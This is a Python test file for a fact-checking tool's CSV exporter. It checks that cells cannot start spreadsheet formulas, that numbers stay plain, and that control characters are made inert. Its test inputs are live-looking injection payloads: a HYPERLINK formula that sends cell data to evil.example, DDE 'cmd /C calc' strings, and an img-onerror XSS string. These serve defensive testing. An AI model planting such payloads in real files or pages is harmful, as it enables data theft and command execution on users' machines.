"""CSV output is safe to open in a spreadsheet: no cell starts a formula (OWASP), numbers stay
numbers, and the csv module keeps quotes, commas and newlines inside their cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from factkit.config import load_config
from factkit.ingest import article_from_text
from factkit.pipeline import Pipeline
from factkit.render.to_csv import COLUMNS, FORMULA_TRIGGERS, render_csv, safe_cell
from factkit.report import Report

HOSTILE = (
    "Hostile test\n\n"
    '=HYPERLINK("http://evil.example/?x="&A1,"Click") was the message, police spokesman'
    " John Smith said on Tuesday, adding that 12 people died.\n"
    "-2+3+cmd|' /C calc'!A0 is what 40 protesters chanted, the mayor said on Monday.\n"
    "@SUM(1+1)*cmd|' /C calc'!A0, said Jane Doe, who counted 300 ballots.\n"
    "The minister said temperatures fell to -3 degrees and that 25 people,"
    ' "including <img src=x onerror=alert(1)> children", were hurt.\n'
)


@pytest.fixture(scope="module")
def hostile() -> Report:
    cfg = load_config(None, ["summarizer.enabled=false", "checkworthiness.enabled=false"])
    return Pipeline(cfg).analyze(article_from_text(HOSTILE))


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    # digits, sign, point and exponent only: "-0." is a number to a spreadsheet, "-inf" is not
    return set(cell) <= set("0123456789+-.eE") and any(c.isdigit() for c in cell)


def _cells(report: Report) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    assert rows[0] == COLUMNS
    assert all(len(row) == len(COLUMNS) for row in rows)  # quotes/commas stayed in their cell
    return rows[1:]


def test_no_cell_of_a_hostile_article_starts_a_formula(hostile: Report) -> None:
    rows = _cells(hostile)
    assert len(rows) == len(hostile.claims) == 4
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or _is_plain_number(cell), cell
            for item in cell.split(";"):  # ';' separates cells in some spreadsheet locales
                assert not item.startswith(FORMULA_TRIGGERS) or _is_plain_number(item), item


def test_escaped_cells_keep_the_text_after_one_quote(hostile: Report) -> None:
    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in _cells(hostile)}
    for claim in hostile.claims:
        text = " ".join(claim.text.split())
        cell = rows[claim.id]["text"]
        if text.startswith(("=", "-", "@")):
            assert cell == "'" + text
        else:
            assert cell == text  # '<img ...>' and embedded quotes come back exactly
    formulas = [r["text"] for r in rows.values() if r["text"].startswith("'")]
    assert len(formulas) == 3
    assert any('"Click"' in f for f in formulas)  # embedded quotes survive the round trip


def test_numbers_stay_numbers(hostile: Report) -> None:
    rows = _cells(hostile)
    assert all(_is_plain_number(row[i]) for row in rows for i in (1, 2, 3, 4))
    numbers = {row[0]: row[COLUMNS.index("numbers")] for row in rows}
    minus_three = next(n for n in numbers.values() if "-3" in n)
    assert minus_three.startswith("'-3 degree")  # text beginning with '-': escaped


@pytest.mark.parametrize("cell", ["-3", "-0.5", "+1", "3", "1e5", "-2.5E-3", "0.3500", ".5"])
def test_plain_numbers_are_not_escaped(cell: str) -> None:
    assert safe_cell(cell) == cell


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "-3 degrees", "-", "-inf"],
)
def test_formula_triggers_are_escaped(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


def test_carriage_returns_are_escaped_and_stay_in_their_cell() -> None:
    assert safe_cell("\r=1+1") == "'\n=1+1"
    assert safe_cell("a\r\nb\rc") == "a\nb\nc"


@given(st.text(alphabet="=+-@\t\r\n,;\"' .0123456789eAa|!()", max_size=20))
@example("-0.")  # a number to a spreadsheet, left as it is (was a flaky counterexample)
def test_safe_cell_is_inert_and_round_trips(text: str) -> None:
    cell = safe_cell(text)
    lines = text.replace("\r\n", "\n").replace("\r", "\n")  # a lone CR would split the row
    assert cell in (lines, "'" + lines)
    assert not cell.startswith(FORMULA_TRIGGERS) or _is_plain_number(cell)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([cell, "next"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [cell, "next"]


def test_the_readme_documents_the_header_a_reader_gets(hostile: Report) -> None:
    # an integrator maps columns by the header the README gives; it named none
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    header = next(csv.reader(io.StringIO(render_csv(hostile))))
    assert header == COLUMNS
    assert f"\n```\n{','.join(header)}\n```\n" in readme


def test_a_large_figure_is_written_out_not_in_exponent_form() -> None:
    cfg = load_config(None, ["summarizer.enabled=false", "checkworthiness.enabled=false"])
    text = "Budget\n\nThe council said it spent $4 million on 1,500,000 new bulbs last year.\n"
    rows = _cells(Pipeline(cfg).analyze(article_from_text(text)))
    numbers = ";".join(row[COLUMNS.index("numbers")] for row in rows)
    assert "4000000" in numbers and "1500000" in numbers, numbers
    assert "e+" not in numbers


def test_a_control_character_is_shown_as_its_picture_in_a_cell() -> None:
    # an ESC or NUL in a claim (or a reviewer's note, in the desk's CSV) was written raw
    assert safe_cell("Flood\x1b[2J\x00") == "Flood\u241b[2J\u2400"
    assert safe_cell("=1+\x07") == "'=1+\u2407"
    assert safe_cell("red\x9b31m\x7f") == "red\ufffd31m\u2421"
